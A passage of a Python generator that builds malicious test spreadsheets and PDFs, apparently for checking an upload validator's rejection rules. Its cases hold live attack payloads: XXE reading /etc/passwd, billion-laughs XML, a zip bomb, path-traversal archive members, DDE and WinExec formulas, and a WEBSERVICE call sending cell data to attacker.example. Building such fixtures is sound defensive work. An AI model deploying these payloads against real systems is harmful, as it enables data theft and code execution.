        lambda: rezip(openpyxl_xlsx(), add={"xl/vbaProject.bin": ole_xls_with_vba()}),
        "macros",
    ),
    Case(
        "xlsm-renamed.xlsx",
        lambda: minimal_xlsx({"[Content_Types].xml": _macro_content_types(MINIMAL_XLSX["[Content_Types].xml"])}),
        "macros",
    ),
    Case("macrosheet.xlsx", lambda: minimal_xlsx({"xl/macrosheets/sheet1.xml": "<xm/>"}), "macros"),
    Case(
        "dtd-entity.xlsx",
        lambda: minimal_xlsx(
            {
                "xl/worksheets/sheet1.xml": '<?xml version="1.0"?><!DOCTYPE w [<!ENTITY e "boom">]>'
                "<worksheet><sheetData>&e;</sheetData></worksheet>"
            }
        ),
        "unsafe_xml",
    ),
    Case(
        "external-entity.xlsx",
        lambda: minimal_xlsx(
            {
                "xl/workbook.xml": '<?xml version="1.0"?><!DOCTYPE w [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
                "<workbook>&x;</workbook>"
            }
        ),
        "unsafe_xml",
    ),
    Case(
        "billion-laughs.xlsx",
        lambda: minimal_xlsx(
            {
                "[Content_Types].xml": '<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "lol"><!ENTITY b "&a;&a;&a;&a;">'
                '<!ENTITY c "&b;&b;&b;&b;">]><Types>&c;</Types>'
            }
        ),
        "unsafe_xml",
    ),
    Case("broken-xml.xlsx", lambda: minimal_xlsx({"xl/workbook.xml": "<workbook><sheets>"}), "unreadable"),
    Case("zip-bomb.xlsx", lambda path: zip_bomb_xlsx(path), "unsafe_container", streamed=True),
    Case("traversal.xlsx", lambda: minimal_xlsx({"../../evil.xml": "<x/>"}), "unsafe_container"),
    Case("absolute-member.xlsx", lambda: minimal_xlsx({"/etc/cron.d/x.xml": "<x/>"}), "unsafe_container"),
    Case("backslash-member.xlsx", lambda: minimal_xlsx({"xl\\..\\..\\evil.xml": "<x/>"}), "unsafe_container"),
    Case("symlink-member.xlsx", lambda: minimal_xlsx(infos=[(_symlink_info(), b"/etc/passwd")]), "unsafe_container"),
    Case(
        "too-many-members.xlsx",
        lambda: minimal_xlsx({f"xl/media/{n}.xml": "<x/>" for n in range(2100)}),
        "unsafe_container",
    ),
    Case("embedded-object.xlsx", lambda: minimal_xlsx({"xl/embeddings/oleObject1.bin": ole_xls()}), "embedded_files"),
    Case("vba.xls", ole_xls_with_vba, "macros"),
    Case(
        "external-link-part.xlsx",
        lambda: _workbook_with(
            ("externalLink", "externalLinks/externalLink1.xml", False),
            "xl/externalLinks/externalLink1.xml",
            EXTERNAL_LINK,
        ),
        "external_links",
    ),
    Case("external-ref-formula.xlsx", lambda: _formula_xlsx("[1]Sheet1!A1*2"), "external_links"),
    Case(
        "external-path-formula.xlsx", lambda: _formula_xlsx("SUM('C:\\data\\[budget.xlsx]S'!A1:A3)"), "external_links"
    ),
    Case("dde-formula.xlsx", lambda: _formula_xlsx("cmd|' /C calc'!A0"), "dde"),
    Case(
        "dde-link.xlsx",
        lambda: _workbook_with(
            ("externalLink", "externalLinks/externalLink1.xml", False), "xl/externalLinks/externalLink1.xml", DDE_LINK
        ),
        "dde",
    ),
    Case(
        "data-connection.xlsx",
        lambda: _workbook_with(("connections", "connections.xml", False), "xl/connections.xml", CONNECTIONS),
        "data_connections",
    ),
    Case(
        "web-query.xlsx",
        lambda: minimal_xlsx(
            {
                "xl/queryTables/queryTable1.xml": QUERY_TABLE,
                "xl/worksheets/_rels/sheet1.xml.rels": _relationships(
                    ("queryTable", "../queryTables/queryTable1.xml", False)
                ),
            }
        ),
        "data_connections",
    ),
    Case(
        "webservice.xlsx",
        lambda: _formula_xlsx('_xlfn.WEBSERVICE("https://attacker.example/?"&amp;A2)'),
        "unsafe_functions",
    ),
    Case("filterxml.xlsx", lambda: _formula_xlsx('_xlfn.FILTERXML(B1,"//a")'), "unsafe_functions"),
    Case("call.xlsx", lambda: _formula_xlsx('CALL("kernel32","WinExec","JCJ","calc",0)'), "unsafe_functions"),
    Case("register.xlsx", lambda: _formula_xlsx('REGISTER("kernel32","WinExec","JCJ")'), "unsafe_functions"),
    Case(
        "defined-name-webservice.xlsx",
        lambda: minimal_xlsx(
            {
                "xl/workbook.xml": MINIMAL_XLSX["xl/workbook.xml"].replace(
                    "</sheets>",
                    '</sheets><definedNames><definedName name="x">_xlfn.WEBSERVICE("http://a.example")</definedName></definedNames>',
                )
            }
        ),
        "unsafe_functions",
    ),
    Case("linked-ole.xlsx", lambda: minimal_xlsx({"xl/worksheets/sheet1.xml": LINKED_OLE}), "external_links"),
    Case(
        "external-ole-relationship.xlsx",
        lambda: minimal_xlsx(
            {"xl/worksheets/_rels/sheet1.xml.rels": _relationships(("oleObject", "file:///C:/x.docx", True))}
        ),
        "external_links",
    ),
    Case("hyperlink-file.xlsx", lambda: _hyperlink_xlsx("file:///C:/Windows/system32/calc.exe"), "unsafe_link"),
    Case("hyperlink-unc.xlsx", lambda: _hyperlink_xlsx("\\\\attacker\\share\\x.xlsx"), "unsafe_link"),
    Case("hyperlink-javascript.xlsx", lambda: _hyperlink_xlsx("javascript:alert(1)"), "unsafe_link"),
    Case("hyperlink-formula-file.xlsx", lambda: _formula_xlsx('HYPERLINK("file:///C:/x.exe","ouvrir")'), "unsafe_link"),
    Case("hyperlink-https.xlsx", lambda: _hyperlink_xlsx("https://www.inami.fgov.be"), None),
    Case("links-and-formulas.xlsx", benign_active_xlsx, None),
    Case(
        "external-workbook.xls", lambda: ole_xls(globals_records=_supbook(1, "\x01C\x03budget.xls")), "external_links"
    ),
    Case("dde-link.xls", lambda: ole_xls(globals_records=_supbook(0, "cmd\x03/c calc")), "dde"),
    Case("call-formula.xls", lambda: ole_xls(sheet_records=_formula(CALL_WINEXEC)), "unsafe_functions"),
    Case("webservice-name.xls", lambda: ole_xls(globals_records=_name("_xlfn.WEBSERVICE")), "unsafe_functions"),
    Case(
        "data-connection.xls",
        lambda: ole_xls(globals_records=_record(0x0876, b"\x76\x08" + b"\x00" * 14)),
        "data_connections",
    ),
    Case("web-query.xls", lambda: ole_xls(sheet_records=_record(0x01AD, b"\x00" * 16)), "data_connections"),
    Case("hyperlink-file.xls", lambda: ole_xls(sheet_records=_hlink(_file_moniker("C:\\x.exe"))), "unsafe_link"),
    Case(
        "hyperlink-javascript.xls",
        lambda: ole_xls(sheet_records=_hlink(_url_moniker("javascript:alert(1)"))),
        "unsafe_link",
    ),
    Case(
        "hyperlink-unc.xls", lambda: ole_xls(sheet_records=_hlink(_url_moniker("\\\\attacker\\share"))), "unsafe_link"
    ),
    Case("linked-ole.xls", lambda: ole_xls(extra=_ole_object(1)), "external_links"),
    Case("embedded-ole.xls", lambda: ole_xls(extra=_ole_object(0)), "embedded_files"),
    Case(
        "formula-and-link.xls",
        lambda: ole_xls(
            globals_records=_record(0x01AE, struct.pack("<HH", 1, 0x0401)),  # internal references
            sheet_records=_formula(SUM_A1_A3) + _hlink(_url_moniker("https://www.inami.fgov.be")),
        ),
        None,
    ),
    Case("macro-sheet.xls", lambda: ole_xls(sheet_type=0x01), "macros"),
    Case("password.xls", lambda: ole_xls(password=True), "encrypted"),
    Case("truncated.xls", lambda: ole_xls()[:1500], "unreadable"),
    # polyglots
    Case("pdf-then-zip.pdf", lambda: fpdf_pdf() + openpyxl_xlsx(), "polyglot"),
    Case("pdf-zip-fake-trailer.pdf", lambda: with_fake_trailer(fpdf_pdf(), openpyxl_xlsx()), "polyglot"),
    Case("pdf-html-fake-trailer.pdf", lambda: with_fake_trailer(fpdf_pdf(), b"<html><script>x</script>"), "polyglot"),
    Case("pdf-7z-fake-trailer.pdf", lambda: with_fake_trailer(fpdf_pdf(), b"7z\xbc\xaf\x27\x1c\x00\x04"), "polyglot"),
    Case("pdf-ole-fake-trailer.pdf", lambda: with_fake_trailer(fpdf_pdf(), ole_xls()), "polyglot"),
    Case("pdf-trailing-whitespace.pdf", lambda: fpdf_pdf() + b"\r\n \n\x00", None),
    Case("zip-bytes-in-content-stream.pdf", lambda: _pdf_with_bytes_inside(b"PK\x03\x04 PK\x05\x06"), None),
    Case("xlsx-then-zip.xlsx", lambda: openpyxl_xlsx() + minimal_xlsx(), "polyglot"),
    Case("xlsx-then-html.xlsx", lambda: openpyxl_xlsx() + b"<html><script>x</script></html>", "polyglot"),
    Case("xls-then-zip.xls", lambda: ole_xls() + openpyxl_xlsx(), "polyglot"),
    Case("xls-then-sector.xls", lambda: ole_xls() + openpyxl_xlsx()[:512].ljust(512, b"\x00"), "polyglot"),
    Case("pdf-prefix-zip.xlsx", lambda: fpdf_pdf() + openpyxl_xlsx(), "content_mismatch"),
    Case("html-then-pdf.pdf", lambda: b"<html><script>alert(1)</script></html>\n" + fpdf_pdf(), "content_mismatch"),
    Case("gif-then-zip.xlsx", lambda: b"GIF89a\x01\x00\x01\x00\x00\x00\x00;" + openpyxl_xlsx(), "content_mismatch"),
    # viruses inside valid files (the type checks pass; clamd refuses them)
    Case("eicar-inside.pdf", lambda: _pdf_with_bytes_inside(EICAR), "infected", needs_clamd=True),
    Case("signature-inside.pdf", lambda: _pdf_with_bytes_inside(TEST_SIGNATURE), "infected", needs_clamd=True),
    Case(
        "signature-in-cell.xlsx",
        lambda: openpyxl_xlsx(rows=3, text=TEST_SIGNATURE.decode()),
        "infected",
        needs_clamd=True,
    ),
]


def build(case, directory):
    """Write ``case``'s file into ``directory`` and return its path."""
    path = Path(directory) / case.filename
    path.parent.mkdir(parents=True, exist_ok=True)
    if case.streamed:
        case.make(path)
    else:
        path.write_bytes(case.make())
    return path


def generate(directory, cases=CASES):
    directory = Path(directory)
    directory.mkdir(parents=True, exist_ok=True)
    return [(case, build(case, directory)) for case in cases]


if __name__ == "__main__":
    target = Path(sys.argv[1] if len(sys.argv) > 1 else "corpus")
    for case, path in generate(target):
        print(f"{case.expect or 'accepted':<20} {case.policy:<20} {path.stat().st_size:>12} {path}")  # noqa: T201
